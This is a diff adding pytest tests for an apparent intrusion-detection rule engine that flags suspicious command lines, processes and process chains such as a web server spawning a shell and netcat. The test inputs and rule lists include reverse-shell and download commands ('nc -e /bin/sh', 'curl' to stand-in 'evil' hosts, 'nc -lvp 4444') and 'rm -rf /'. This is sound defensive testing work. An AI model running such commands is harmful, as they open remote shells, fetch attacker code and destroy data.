@@ -1,6 +1,7 @@
 import pytest
 from unittest.mock import patch, mock_open
 import json
+import os
 from agent import rule_engine, alerter
 
 @pytest.fixture
@@ -56,3 +57,71 @@ def test_check_regex(setup_rules):
     rule_engine.load_rules(setup_rules)
     assert rule_engine.check_regex("curl -fsSL evil.site") is True
     assert rule_engine.check_regex("echo hello") is False
+
+def test_match_ids(tmp_path):
+    rules_path = tmp_path / "rules.json"
+    rules_path.write_text(json.dumps({
+        "cmdline_keywords": ["nc -e", {"id": "KW-CURL", "keyword": "CURL"}, "wget"],
+        "regex": ["bash -c .*nc.*", {"id": "RX-EVIL", "pattern": "curl.*evil"}, r"(\w)\1{5}"]
+    }))
+    rule_engine.load_rules(str(rules_path))
+    assert rule_engine.match_cmdline_keywords("bash -c 'curl x | nc -e /bin/sh'") == ["nc -e", "KW-CURL"]
+    assert rule_engine.match_regex("curl https://evil.example") == ["RX-EVIL"]
+    assert rule_engine.match_regex("aaaaaa") == [r"(\w)\1{5}"]
+    assert rule_engine.match_regex("ls -la") == []
+
+@patch("agent.alerter.alert")
+def test_invalid_regex_reported_once(mock_alert, tmp_path):
+    rules_path = tmp_path / "rules.json"
+    rules_path.write_text(json.dumps({"regex": ["(unclosed", "curl.*evil"]}))
+    rule_engine.load_rules(str(rules_path))
+    assert mock_alert.call_count == 1
+    assert rule_engine.check_regex("curl evil") is True
+    assert rule_engine.check_regex("(unclosed") is False
+    assert mock_alert.call_count == 1
+
+@patch("agent.alerter.alert")
+def test_reload_if_changed(mock_alert, setup_rules):
+    rule_engine.load_rules(setup_rules)
+    generation = rule_engine.GENERATION
+    ruleset = rule_engine.RULESET
+    assert rule_engine.reload_if_changed() is False
+    with open(setup_rules, "w") as f:
+        json.dump({"suspicious_processes": ["socat"]}, f)
+    os.utime(setup_rules, ns=(1, 1))
+    assert rule_engine.reload_if_changed() is True
+    assert rule_engine.GENERATION == generation + 1
+    assert ruleset.suspicious_processes == frozenset({"ncat"})
+    assert rule_engine.is_suspicious_process("SOCAT") is True
+    assert rule_engine.is_suspicious_process("ncat") is False
+
+def test_keywords_match_whole_words(tmp_path):
+    rules_path = tmp_path / "rules.json"
+    rules_path.write_text(json.dumps({"cmdline_keywords": ["nc", "nc -e", "rm -rf"]}))
+    rule_engine.load_rules(str(rules_path))
+    assert rule_engine.check_cmdline_keywords("sync") is False
+    assert rule_engine.check_cmdline_keywords("func -e") is False
+    assert rule_engine.check_cmdline_keywords("/bin/nc -e /bin/sh") is True
+    assert rule_engine.match_cmdline_keywords("rm -rf /") == ["rm -rf"]
+
+def test_lineage_rules():
+    ruleset = rule_engine.Ruleset({"lineage_rules": [
+        {"id": "web-shell", "chain": ["nginx", "...", "sh|bash", "nc"]},
+        ["java", "sh"],
+    ]})
+    lineage = (frozenset({"systemd"}), frozenset({"nginx"}), frozenset({"php-fpm"}),
+               frozenset({"sh", "dash"}), frozenset({"nc"}))
+    assert [r.rule_id for r in ruleset.match_lineage(lineage)] == ["web-shell"]
+    assert ruleset.match_lineage(lineage[:2] + lineage[3:]) == ruleset.match_lineage(lineage)
+    assert ruleset.match_lineage((frozenset({"bash"}), frozenset({"nc"}))) == []
+    assert [r.rule_id for r in ruleset.match_lineage((frozenset({"java"}), frozenset({"sh"})))] == ["java → sh"]
+    verdict = ruleset.evaluate_process("/usr/bin/nc", "sh", "nc -lvp 4444", lineage)
+    assert [(m.rule, m.rule_id) for m in verdict] == [("lineage", "web-shell")]
+
+@patch("agent.rule_engine.alerter.alert")
+def test_invalid_lineage_rule_reported(mock_alert, tmp_path):
+    rules_path = tmp_path / "rules.json"
+    rules_path.write_text(json.dumps({"lineage_rules": [{"id": "bad", "chain": ["nginx", "..."]}]}))
+    rule_engine.load_rules(str(rules_path))
+    assert "Некорректное правило" in mock_alert.call_args[0][0]
+    assert rule_engine.has_lineage_rules() is False